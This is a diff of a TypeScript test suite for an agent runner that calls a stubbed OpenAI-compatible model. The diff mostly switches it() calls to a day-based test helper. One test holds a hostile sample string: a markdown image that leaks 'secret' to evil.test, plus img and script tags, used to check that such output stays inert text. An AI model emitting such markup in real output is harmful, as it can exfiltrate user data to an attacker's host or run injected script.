@@ -4,13 +4,14 @@ import { after, beforeEach, it } from 'node:test'
 import { agentCalls } from '../support/agents.ts'
 import { type Asked, ask, begin, event, say, startChatServer } from '../support/chat-server.ts'
 import { administrator } from '../support/people.ts'
-import { onBothEngines, usePostern } from '../support/postern.ts'
+import { onBothEngines, testOnOneEngineByDay, usePostern } from '../support/postern.ts'
 import { until } from '../support/waits.ts'
 
 const stub = await startChatServer()
 after(() => stub.stop())
 
 onBothEngines('a model behind an OpenAI-compatible endpoint', (engine) => {
+  const test = testOnOneEngineByDay(engine)
   const server = usePostern(engine, { env: stub.env })
   beforeEach(() => {
     stub.asked.length = 0
@@ -46,7 +47,7 @@ onBothEngines('a model behind an OpenAI-compatible endpoint', (engine) => {
     assert.equal(stub.asked.length, 1)
   })
 
-  it('says what it says: what would be fetched or run elsewhere is a text here', async () => {
+  test('says what it says: what would be fetched or run elsewhere is a text here', async () => {
     const { calls, run } = await stand()
     const evil = '![x](https://evil.test/?q=secret) <img src="https://evil.test/"> <script>alert(1)</script>'
     stub.answer = (_asked, response) => say(response, evil)
@@ -68,7 +69,7 @@ onBothEngines('a model behind an OpenAI-compatible endpoint', (engine) => {
     )
   })
 
-  it('reads why a call was not made: an unknown tool, arguments that are no object or lead astray, too many', async () => {
+  test('reads why a call was not made: an unknown tool, arguments that are no object or lead astray, too many', async () => {
     const { calls, run } = await stand({ maxSteps: 50 })
     stub.answer = (asked, response) => {
       if (asked.messages.some(({ role }) => role === 'tool')) return say(response, 'I give up.')
@@ -90,7 +91,7 @@ onBothEngines('a model behind an OpenAI-compatible endpoint', (engine) => {
     assert.ok(steps.filter(({ kind }) => kind === 'tool').every(({ credits }) => credits === 0))
   })
 
-  it('that never stops to call tools ends with max_steps', async () => {
+  test('that never stops to call tools ends with max_steps', async () => {
     const { run } = await stand({ maxSteps: 4 })
     stub.answer = (_asked, response) => ask(response, [['nothing', '{}']])
     const { status, error } = await run()
@@ -142,7 +143,7 @@ onBothEngines('a model behind an OpenAI-compatible endpoint', (engine) => {
     ],
   ]
   for (const [what, fault, code, reason] of FAULTS)
-    it(`that ${what} fails the run with ${code}, and is not asked once more`, async () => {
+    test(`that ${what} fails the run with ${code}, and is not asked once more`, async () => {
       const { run } = await stand()
       stub.answer = (_asked, response) => fault(response)
       const { status, error, usage } = await run()
@@ -152,7 +153,7 @@ onBothEngines('a model behind an OpenAI-compatible endpoint', (engine) => {
       else assert.ok(usage.inputTokens > 0)
     })
 
-  it('that asks to wait a moment is asked once more after it', async () => {
+  test('that asks to wait a moment is asked once more after it', async () => {
     const { run } = await stand()
     stub.answer = (_asked, response) => {
       if (stub.asked.length > 1) return say(response, 'Now.')
